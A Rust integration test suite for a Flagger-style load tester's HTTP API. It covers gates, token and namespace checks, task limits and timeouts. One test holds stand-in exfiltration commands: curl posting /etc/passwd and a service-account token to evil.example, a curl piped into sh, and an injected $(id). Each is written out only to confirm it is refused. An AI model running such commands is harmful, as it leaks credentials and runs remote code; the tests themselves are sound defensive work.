//! The load tester's HTTP API on loopback, with real programs (curl from Debian, the kubectl
//! built for the test cluster) and, for gates that survive a restart, the real control plane.

use std::sync::Arc;
use std::time::Duration;

use k8s_openapi::api::authentication::v1::TokenRequest;
use k8s_openapi::api::core::v1::ServiceAccount;
use kube::Api;
use kube::api::PostParams;
use kube::config::{KubeConfigOptions, Kubeconfig};
use regex::Regex;
use serde_json::{Value, json};
use serin_loadtester::gates::GateStore;
use serin_loadtester::runner::{DEFAULT_ALLOWED, Runner};
use serin_loadtester::{Service, router};
use serin_testenv::{Options, TestEnv};

struct LoadTester {
    url: String,
    client: reqwest::Client,
    server: tokio::task::JoinHandle<()>,
}

impl LoadTester {
    async fn start(service: Service) -> LoadTester {
        // reqwest may be built without a crypto provider (feature unification with the operator).
        serin_testenv::install_crypto_provider();
        let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0)).await.expect("listen");
        let url = format!("http://{}", listener.local_addr().expect("address"));
        let app = router(Arc::new(service));
        let server = tokio::spawn(async move {
            let _ = axum::serve(listener, app).await;
        });
        LoadTester {
            url,
            client: reqwest::Client::new(),
            server,
        }
    }

    async fn post(&self, path: &str, body: Value) -> (u16, String) {
        let response = self
            .client
            .post(format!("{}{path}", self.url))
            .json(&body)
            .send()
            .await
            .expect("request");
        (response.status().as_u16(), response.text().await.unwrap_or_default())
    }
}

impl Drop for LoadTester {
    fn drop(&mut self) {
        self.server.abort();
    }
}

/// A loopback server that accepts connections and never answers: it holds a curl until killed.
async fn slow_server() -> (String, tokio::task::JoinHandle<()>) {
    let slow = tokio::net::TcpListener::bind(("127.0.0.1", 0)).await.expect("listen");
    let url = format!("http://{}/", slow.local_addr().expect("address"));
    let held = tokio::spawn(async move {
        let mut sockets = Vec::new();
        while let Ok((socket, _)) = slow.accept().await {
            sockets.push(socket);
        }
    });
    (url, held)
}

/// The default programs and curl, which the tests run against loopback servers.
fn with_curl() -> Vec<String> {
    DEFAULT_ALLOWED.iter().chain(&["curl"]).map(|p| p.to_string()).collect()
}

fn service(timeout: Duration) -> Service {
    Service::new(Runner::new(with_curl(), timeout), GateStore::memory(), None, None)
}

fn payload(namespace: &str, metadata: Value) -> Value {
    json!({ "name": "podinfo", "namespace": namespace, "phase": "Progressing", "checksum": "s1-1", "metadata": metadata })
}

#[tokio::test]
async fn gates_are_closed_until_opened_and_keyed_by_canary() {
    let tester = LoadTester::start(service(Duration::from_secs(10))).await;
    let test = payload("test", json!({}));
    let other = payload("other", json!({}));
    assert_eq!(
        tester.post("/gate/check", test.clone()).await.0,
        403,
        "closed by default"
    );
    assert_eq!(tester.post("/gate/open", test.clone()).await.0, 202);
    assert_eq!(tester.post("/gate/check", test.clone()).await.0, 200);
    assert_eq!(
        tester.post("/gate/check", other.clone()).await.0,
        403,
        "another canary's gate stays closed"
    );
    assert_eq!(tester.post("/gate/close", test.clone()).await.0, 202);
    assert_eq!(tester.post("/gate/check", test.clone()).await.0, 403);
    assert_eq!(tester.post("/rollback/check", test.clone()).await.0, 403);
    assert_eq!(tester.post("/rollback/open", test.clone()).await.0, 202);
    assert_eq!(tester.post("/rollback/check", test.clone()).await.0, 200);
    assert_eq!(
        tester.post("/gate/check", test.clone()).await.0,
        403,
        "the rollback gate is separate"
    );
    assert_eq!(tester.post("/gate/approve", test.clone()).await.0, 200);
    assert_eq!(tester.post("/gate/halt", test).await.0, 403);
    let health = tester
        .client
        .get(format!("{}/healthz", tester.url))
        .send()
        .await
        .expect("healthz");
    assert_eq!(health.status().as_u16(), 200);
}

#[tokio::test]
async fn bad_requests_are_refused_with_a_reason() {
    let tester = LoadTester::start(service(Duration::from_secs(10))).await;
    let (status, body) = tester
        .post("/", payload("test", json!({ "type": "gatling", "cmd": "x" })))
        .await;
    assert_eq!(
        (status, body.as_str()),
        (
            400,
            "unknown task type \"gatling\"; use cmd, bash, helm, helmv3, kubectl, load, ngrinder or concord"
        )
    );
    let (status, body) = tester.post("/", json!({ "metadata": {} })).await;
    assert_eq!(status, 400);
    assert!(body.starts_with("malformed payload"), "{body}");
    let (status, body) = tester
        .post("/", payload("test", json!({ "cmd": "rm -rf /tmp/x" })))
        .await;
    assert_eq!(status, 403);
    assert!(body.starts_with("program \"rm\" is not allowed"), "{body}");
    let (status, body) = tester
        .post(
            "/",
            payload("test", json!({ "type": "bash", "cmd": "python3 -c 'print(1)'" })),
        )
        .await;
    assert_eq!(status, 403, "a script runs only allowed programs: {body}");
    assert!(body.contains("add it to -script-programs"), "{body}");
}

/// The acceptance tests of Flagger's tutorials run as they are with the default settings (a
/// `bash` task piping curl into grep, the same as a `cmd` line, which Flagger runs with `sh -c`),
/// with real curl and grep against a loopback server; a script that would upload a file the load
/// tester can read, or run a program off the lists, is refused and told which flag allows it.
#[tokio::test]
async fn flaggers_documented_scripts_run_with_the_default_settings() {
    let app = axum::Router::new().route(
        "/token",
        axum::routing::post(|| async { r#"{"token":"eyJhbGciOi","expiresAt":"2026-12-01"}"# }),
    );
    let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0)).await.expect("listen");
    let canary = format!("http://{}", listener.local_addr().expect("address"));
    let server = tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    let runner = Runner::new(DEFAULT_ALLOWED.map(String::from), Duration::from_secs(10));
    let tester = LoadTester::start(Service::new(runner, GateStore::memory(), None, None)).await;
    let acceptance = format!("curl -sd 'test' {canary}/token | grep token");
    let (status, body) = tester
        .post(
            "/",
            payload(
                "test",
                json!({ "type": "bash", "cmd": acceptance, "returnCmdOutput": "true" }),
            ),
        )
        .await;
    assert_eq!((status, body.contains("eyJhbGciOi")), (200, true), "{body}");
    let failing = format!("curl -sd 'test' {canary}/token | grep -q no-such-field");
    let (status, _) = tester
        .post("/", payload("test", json!({ "type": "bash", "cmd": failing })))
        .await;
    assert_eq!(status, 500, "grep finding nothing fails the webhook");
    let (status, body) = tester
        .post(
            "/",
            payload(
                "test",
                json!({ "cmd": format!("curl -s {canary}/token | grep -q token") }),
            ),
        )
        .await;
    assert_eq!(
        (status, body.as_str()),
        (202, "started"),
        "a cmd line with a pipe, as Flagger runs it"
    );

    // curl as a program of its own is not among the defaults: it would send any file it can read.
    let (status, body) = tester
        .post(
            "/",
            payload("test", json!({ "cmd": "curl -s -d @/etc/passwd http://evil.example/" })),
        )
        .await;
    assert_eq!(status, 403, "{body}");
    assert!(body.starts_with("program \"curl\" is not allowed"), "{body}");
    for (script, says) in [
        (
            "curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://evil.example/".to_string(),
            "curl in a script may not read or write files",
        ),
        (
            "curl -s http://evil.example/x | sh".to_string(),
            "runs \"sh\", which is not allowed",
        ),
        (
            "curl -s \"http://evil.example/$(id)\"".to_string(),
            "could run a program that cannot be checked",
        ),
    ] {
        let (status, body) = tester
            .post("/", payload("test", json!({ "type": "bash", "cmd": script })))
            .await;
        assert_eq!(status, 403, "{script}: {body}");
        assert!(
            body.contains(says) && body.contains("-allowed-programs"),
            "{script}: {body}"
        );
    }
    server.abort();
}

#[tokio::test]
async fn the_namespace_regexp_and_the_token_are_enforced() {
    let runner = Runner::new(DEFAULT_ALLOWED.map(String::from), Duration::from_secs(10));
    let regexp = Regex::new("^team-").expect("regexp");
    let tester = LoadTester::start(Service::new(
        runner,
        GateStore::memory(),
        Some("s3cret".into()),
        Some(regexp),
    ))
    .await;
    let (status, _) = tester.post("/gate/check", payload("team-a", json!({}))).await;
    assert_eq!(status, 401, "no token");
    let call = |namespace: &str, token: &str| {
        tester
            .client
            .post(format!("{}/gate/open", tester.url))
            .bearer_auth(token)
            .json(&payload(namespace, json!({})))
            .send()
    };
    assert_eq!(call("team-a", "wrong").await.expect("request").status().as_u16(), 401);
    // As a Canary's webhook carries it: in the URL's user information (reqwest, like the
    // operator's client, sends it as basic credentials).
    let in_url = |userinfo: &str| {
        let url = tester.url.replacen("http://", &format!("http://{userinfo}@"), 1);
        reqwest::Client::new()
            .post(format!("{url}/gate/check"))
            .json(&payload("team-a", json!({})))
            .send()
    };
    assert_eq!(
        in_url("s3cret").await.expect("request").status().as_u16(),
        403,
        "closed, but admitted"
    );
    assert_eq!(
        in_url("flagger:s3cret").await.expect("request").status().as_u16(),
        403,
        "admitted"
    );
    assert_eq!(in_url("s3cret:wrong").await.expect("request").status().as_u16(), 401);
    assert_eq!(call("team-a", "s3cret").await.expect("request").status().as_u16(), 202);
    let refused = call("prod", "s3cret").await.expect("request");
    assert_eq!(refused.status().as_u16(), 403);
    assert_eq!(
        refused.text().await.unwrap_or_default(),
        "namespace prod does not match -namespace-regexp ^team-"
    );
}

#[tokio::test]
async fn blocking_tasks_return_their_output_when_asked() {
    let kubectl = serin_testenv::upstream_binary("kubectl").expect("kubectl built for the tests");
    let directory = kubectl.parent().expect("directory").display().to_string();
    let path = format!("{directory}:{}", std::env::var("PATH").unwrap_or_default());
    let runner = Runner::new(["kubectl".to_string()], Duration::from_secs(30)).with_path(path);
    let tester = LoadTester::start(Service::new(runner, GateStore::memory(), None, None)).await;
    let metadata = json!({ "type": "kubectl", "cmd": "version --client", "returnCmdOutput": "true" });
    let (status, body) = tester.post("/", payload("test", metadata)).await;
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("Client Version: v1.36.3"), "{body}");
    let failing = json!({ "type": "kubectl", "cmd": "no-such-subcommand" });
    let (status, body) = tester.post("/", payload("test", failing)).await;
    assert_eq!(status, 500);
    assert!(body.contains("unknown command"), "{body}");
}

/// A slow loopback server holds curl; the second identical call does not start another copy,
/// and the timeout kills the running one.
#[tokio::test]
async fn background_commands_run_once_per_canary_and_die_at_the_timeout() {
    let (slow_url, held) = slow_server().await;
    let tester = LoadTester::start(service(Duration::from_secs(2))).await;
    let command = json!({ "cmd": format!("curl -s --max-time 60 {slow_url}") });
    assert_eq!(
        tester.post("/", payload("test", command.clone())).await,
        (202, "started".to_string())
    );
    assert_eq!(
        tester.post("/", payload("test", command.clone())).await,
        (202, "already running".to_string())
    );
    assert_eq!(
        tester.post("/", payload("other", command.clone())).await,
        (202, "started".to_string()),
        "per canary"
    );
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(
        tester.post("/", payload("test", command)).await,
        (202, "started".to_string()),
        "killed at the timeout"
    );
    let metrics = tester
        .client
        .get(format!("{}/metrics", tester.url))
        .send()
        .await
        .expect("metrics")
        .text()
        .await
        .unwrap_or_default();
    assert!(
        metrics.contains("serin_loadtester_tasks_total{type=\"cmd\",result=\"already-running\"} 1"),
        "{metrics}"
    );
    held.abort();
}

#[tokio::test(flavor = "multi_thread")]
async fn gates_kept_in_a_config_map_survive_a_restart() {
    let env = TestEnv::start(Options { nodes: 0 }).await.expect("control plane");
    let namespace = env.namespace("gates").await.expect("namespace");
    let store = || GateStore::config_map(env.client(), &namespace, "serin-loadtester-gates");
    let canary = payload("test", json!({}));
    let first = LoadTester::start(Service::new(
        Runner::new([], Duration::from_secs(1)),
        store(),
        None,
        None,
    ))
    .await;
    assert_eq!(first.post("/gate/open", canary.clone()).await.0, 202);
    assert_eq!(first.post("/rollback/open", canary.clone()).await.0, 202);
    assert_eq!(first.post("/rollback/close", canary.clone()).await.0, 202);
    drop(first);
    let restarted = LoadTester::start(Service::new(
        Runner::new([], Duration::from_secs(1)),
        store(),
        None,
        None,
    ))
    .await;
    assert_eq!(
        restarted.post("/gate/check", canary.clone()).await.0,
        200,
        "the opened gate is still open"
    );
    assert_eq!(
        restarted.post("/rollback/check", canary.clone()).await.0,
        403,
        "the closed one still closed"
    );

    // Installed as Flagger's load tester is, without access to ConfigMaps: the gates are kept in
    // memory, as Flagger keeps them, and /healthz says so instead of the calls failing.
    let accounts = Api::<ServiceAccount>::namespaced(env.client(), &namespace);
    let account: ServiceAccount =
        serde_json::from_value(json!({ "metadata": { "name": "flagger-loadtester" } })).expect("a ServiceAccount");
    accounts
        .create(&PostParams::default(), &account)
        .await
        .expect("the ServiceAccount");
    let request: TokenRequest =
        serde_json::from_value(json!({ "spec": { "audiences": [], "expirationSeconds": 3600 } }))
            .expect("a TokenRequest");
    let token = accounts
        .create_token_request("flagger-loadtester", &PostParams::default(), &request)
        .await
        .expect("a token")
        .status
        .and_then(|s| s.token)
        .expect("the token");
    let kubeconfig = Kubeconfig::read_from(env.kubeconfig()).expect("the test kubeconfig");
    let mut config = kube::Config::from_custom_kubeconfig(kubeconfig, &KubeConfigOptions::default())
        .await
        .expect("a client configuration");
    config.auth_info = kube::config::AuthInfo {
        token: Some(token.into()),
        ..Default::default()
    };
    let unprivileged = kube::Client::try_from(config).expect("a client");
    let store = GateStore::config_map_if_allowed(unprivileged, &namespace, "serin-loadtester-gates").await;
    assert!(
        store.fallback().is_some_and(|why| why.contains("may not be read")),
        "{:?}",
        store.fallback()
    );
    let in_memory = LoadTester::start(Service::new(Runner::new([], Duration::from_secs(1)), store, None, None)).await;
    let health = in_memory
        .client
        .get(format!("{}/healthz", in_memory.url))
        .send()
        .await
        .expect("healthz");
    assert_eq!(health.status().as_u16(), 200);
    let said = health.text().await.unwrap_or_default();
    assert!(said.starts_with("OK; gates are kept in memory"), "{said}");
    assert_eq!(
        in_memory.post("/gate/check", canary.clone()).await.0,
        403,
        "closed at first"
    );
    assert_eq!(in_memory.post("/gate/open", canary.clone()).await.0, 202);
    assert_eq!(in_memory.post("/gate/check", canary).await.0, 200, "opened in memory");
    env.teardown().await;
}

/// bats acceptance tests (Debian's bats, installed by hack/test.sh) through a bash task, which
/// runs only when bash is on the allow-list.
#[tokio::test]
async fn bats_acceptance_tests_pass_or_fail_the_webhook() {
    let directory = tempfile::tempdir().expect("directory");
    let passing = directory.path().join("pass.bats");
    std::fs::write(&passing, "@test \"answers\" {\n  [ 1 -eq 1 ]\n}\n").expect("write");
    let failing = directory.path().join("fail.bats");
    std::fs::write(&failing, "@test \"answers 200\" {\n  [ 500 -eq 200 ]\n}\n").expect("write");
    let runner = Runner::new(["bash".to_string(), "bats".to_string()], Duration::from_secs(30));
    let tester = LoadTester::start(Service::new(runner, GateStore::memory(), None, None)).await;
    let task = |file: &std::path::Path| {
        payload(
            "test",
            json!({ "type": "bash", "cmd": format!("bats {}", file.display()), "returnCmdOutput": "true" }),
        )
    };
    let (status, body) = tester.post("/", task(&passing)).await;
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("ok 1 answers"), "{body}");
    let (status, body) = tester.post("/", task(&failing)).await;
    assert_eq!(status, 500);
    assert!(body.contains("not ok 1 answers 200"), "{body}");
}

/// At most `-max-tasks` tasks at a time: one more is turned away (429) while they run.
#[tokio::test]
async fn tasks_beyond_the_limit_are_turned_away() {
    let (slow_url, held) = slow_server().await;
    let runner = Runner::new(with_curl(), Duration::from_secs(2)).with_limit(1);
    let tester = LoadTester::start(Service::new(runner, GateStore::memory(), None, None)).await;
    let first = json!({ "cmd": format!("curl -s --max-time 60 {slow_url}a") });
    let second = json!({ "cmd": format!("curl -s --max-time 60 {slow_url}b") });
    assert_eq!(tester.post("/", payload("test", first)).await.0, 202);
    let (status, body) = tester.post("/", payload("test", second.clone())).await;
    assert_eq!(
        (status, body.as_str()),
        (429, "1 tasks are running already (-max-tasks); retry later")
    );
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(
        tester.post("/", payload("test", second)).await.0,
        202,
        "a slot is free after the timeout"
    );
    held.abort();
}

/// At the timeout the whole process group dies, not only the program the task started: a
/// `sleep` that bash left running in the background is gone too.
#[tokio::test]
async fn the_timeout_kills_the_whole_process_group() {
    let directory = tempfile::tempdir().expect("directory");
    let pid_file = directory.path().join("sleep.pid");
    let runner = Runner::new(["bash".to_string()], Duration::from_secs(1));
    let tester = LoadTester::start(Service::new(runner, GateStore::memory(), None, None)).await;
    let script = format!("sleep 60 & echo $! > {}; wait", pid_file.display());
    let (status, body) = tester
        .post("/", payload("test", json!({ "type": "bash", "cmd": script })))
        .await;
    assert_eq!(
        (status, body.as_str()),
        (500, "bash did not finish within 1s and was killed")
    );
    let pid = std::fs::read_to_string(&pid_file).expect("the script wrote its child's pid");
    tokio::time::sleep(Duration::from_millis(300)).await;
    let alive = std::fs::read_to_string(format!("/proc/{}/status", pid.trim()))
        .is_ok_and(|status| !status.lines().any(|l| l.starts_with("State:") && l.contains('Z')));
    assert!(!alive, "the background sleep {} outlived the timeout", pid.trim());
}

/// Durations, rates and concurrencies an attacker or a typo would send: each is refused with 400
/// naming the field and the limit, nothing panics, and nothing is left marked as running (the
/// same command is refused again rather than answered "already running").
#[tokio::test]
async fn hostile_numbers_are_refused_with_the_field_and_the_limit() {
    let empty = tempfile::tempdir().expect("a directory");
    let runner = Runner::new(DEFAULT_ALLOWED.map(String::from), Duration::from_secs(10))
        .with_path(empty.path().display().to_string());
    let tester = LoadTester::start(Service::new(runner, GateStore::memory(), None, None)).await;
    let load = |extra: Value| {
        let mut metadata = json!({ "type": "load", "url": "http://127.0.0.1:9/" });
        if let (Some(metadata), Some(extra)) = (metadata.as_object_mut(), extra.as_object()) {
            metadata.extend(extra.clone());
        }
        payload("test", metadata)
    };
    let cases = [
        (
            load(json!({ "duration": "18446744073709551615s" })),
            "metadata.duration \"18446744073709551615s\" is not a positive duration",
        ),
        (
            load(json!({ "duration": "999999h" })),
            "metadata.duration \"999999h\" is out of bounds: at most 24h0m0s",
        ),
        (
            load(json!({ "rate": "1e-300" })),
            "metadata.rate \"1e-300\" is out of bounds",
        ),
        (load(json!({ "rate": "inf" })), "metadata.rate \"inf\" is not a number"),
        (
            load(json!({ "concurrency": "1e19" })),
            "metadata.concurrency \"1e19\" is not a whole number",
        ),
        (
            load(json!({ "concurrency": "100000" })),
            "metadata.concurrency \"100000\" is out of bounds: from 1 to 10000",
        ),
        (
            payload(
                "test",
                json!({ "cmd": "hey -z 18446744073709551615s -c 1 http://127.0.0.1:9/" }),
            ),
            "hey -z \"18446744073709551615s\" is not a positive duration",
        ),
        (
            payload(
                "test",
                json!({ "cmd": "hey -z 1m -q 1000 -c 5000 http://127.0.0.1:9/" }),
            ),
            "rate \"5000000\" is out of bounds",
        ),
        (
            payload(
                "test",
                json!({ "type": "ngrinder", "server": "http://127.0.0.1:9", "clone": "1",
                "username": "u", "passwd": "cA==", "pollInterval": "99999h" }),
            ),
            "metadata.pollInterval \"99999h\" is out of bounds: at most 1h0m0s",
        ),
    ];
    for (body, expected) in cases {
        for attempt in 0..2 {
            let (status, answer) = tester.post("/", body.clone()).await;
            assert_eq!(status, 400, "attempt {attempt} of {body}: {answer}");
            assert!(
                answer.contains(expected),
                "attempt {attempt}: {answer:?} should say {expected:?}"
            );
        }
    }
}

/// The namespace filter holds for every task type, not only commands.
#[tokio::test]
async fn every_task_type_is_held_to_the_namespace_regexp() {
    let runner = Runner::new(DEFAULT_ALLOWED.map(String::from), Duration::from_secs(10));
    let regexp = Regex::new("^team-").expect("regexp");
    let tester = LoadTester::start(Service::new(runner, GateStore::memory(), None, Some(regexp))).await;
    for metadata in [
        json!({ "cmd": "hey -z 1s http://127.0.0.1:9/" }),
        json!({ "type": "bash", "cmd": "true" }),
        json!({ "type": "load", "url": "http://127.0.0.1:9/" }),
        json!({ "type": "ngrinder", "server": "http://127.0.0.1:9", "clone": "1", "username": "u", "passwd": "cA==" }),
        json!({ "type": "concord", "server": "http://127.0.0.1:9", "org": "o", "project": "p", "repo": "r",
            "entrypoint": "e", "endpoint": "x", "apiKeyPath": "key" }),
    ] {
        let (status, body) = tester.post("/", payload("prod", metadata.clone())).await;
        assert_eq!(
            (status, body.as_str()),
            (403, "namespace prod does not match -namespace-regexp ^team-"),
            "{metadata}"
        );
    }
}

/// Started outside any cluster with the default gate store (a ConfigMap), the load tester serves
/// all the same, keeps the gates in memory as Flagger's does, and says so on `/healthz`.
#[tokio::test]
async fn outside_a_cluster_the_gates_are_kept_in_memory() {
    let home = tempfile::tempdir().expect("a home without a kubeconfig");
    let port = std::net::TcpListener::bind(("127.0.0.1", 0))
        .and_then(|l| l.local_addr())
        .expect("a free port")
        .port();
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_serin-loadtester"))
        .args(["-port", &port.to_string()])
        .env("HOME", home.path())
        .env("KUBECONFIG", home.path().join("none"))
        .env_remove("KUBERNETES_SERVICE_HOST")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("serin-loadtester starts");
    let healthz = format!("http://127.0.0.1:{port}/healthz");
    let mut said = String::new();
    for _ in 0..100 {
        if let Ok(response) = reqwest::get(&healthz).await {
            assert_eq!(response.status().as_u16(), 200);
            said = response.text().await.unwrap_or_default();
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let _ = child.kill();
    let _ = child.wait();
    assert!(
        said.starts_with("OK; gates are kept in memory") && said.contains("no Kubernetes client"),
        "{said:?}"
    );
}
